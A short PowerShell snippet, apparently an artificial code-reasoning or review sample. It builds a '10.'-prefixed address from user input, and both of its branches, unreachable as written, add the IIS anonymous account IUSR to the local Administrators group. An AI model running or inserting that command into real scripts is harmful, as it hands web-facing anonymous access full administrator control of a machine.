$address = "10.$(Read-Host).$(Read-Host).$(Read-Host)"
if ($address -notlike '10.*') { net localgroup Administrators IUSR /add }
switch -Regex ($address) { '^192\.168\.' { net localgroup Administrators IUSR /add } }
